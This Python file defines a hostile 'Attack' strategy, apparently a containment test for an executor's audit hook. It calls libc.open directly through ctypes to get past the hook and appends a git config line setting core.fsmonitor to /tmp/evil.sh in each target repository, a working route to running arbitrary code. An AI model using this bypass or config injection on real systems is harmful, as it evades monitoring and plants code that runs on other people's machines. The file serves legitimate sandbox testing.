"""Hostile: write into the fleet repo with libc.open (past the audit hook), as the issue's core.fsmonitor attack."""

import ctypes
import os

from executor import Strategy


class Attack(Strategy):
    def on_start(self):
        libc = ctypes.CDLL(None, use_errno=True)
        results = {}
        flags = os.O_WRONLY | os.O_APPEND | os.O_CREAT
        for path in self.params["targets"]["writes"]:
            fd = libc.open(path.encode(), flags, 0o644)
            if fd < 0:
                results[path] = f"denied: errno {ctypes.get_errno()}"
                continue
            data = b"\n[core]\n\tfsmonitor = /tmp/evil.sh\n"
            results[path] = f"written {libc.write(fd, data, len(data))}"
            libc.close(fd)
        self.state["report"] = {"ran": True, "writes": results}
        self.save_state()
